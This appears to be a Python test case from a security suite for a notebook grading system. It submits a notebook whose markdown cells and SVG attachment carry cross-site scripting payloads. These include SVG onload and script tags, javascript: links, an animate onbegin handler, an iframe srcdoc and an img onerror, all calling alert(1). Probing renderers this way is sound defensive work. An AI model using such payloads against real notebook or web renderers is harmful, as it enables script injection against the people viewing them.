"""Puts SVG with scripts into markdown and attachments."""

from pathlib import Path

from nbformat import NotebookNode

from attacks import kit

OUTCOME = kit.Earns(10)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"


def hand_in(released: NotebookNode, tag: str, folder: Path) -> None:
    """Add markdown cells and an attachment."""
    notebook = kit.answered(released, tag)
    notebook.cells += kit.markdown(
        SVG,
        "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></svg>",
        "<math><a xlink:href='javascript:alert(1)'>x</a><mtext><img src=x onerror=alert(1)></math>",
        "![x](attachment:a.svg)",
    )
    notebook.cells[-1].attachments = {"a.svg": {"image/svg+xml": SVG}}
    kit.write(folder, notebook)
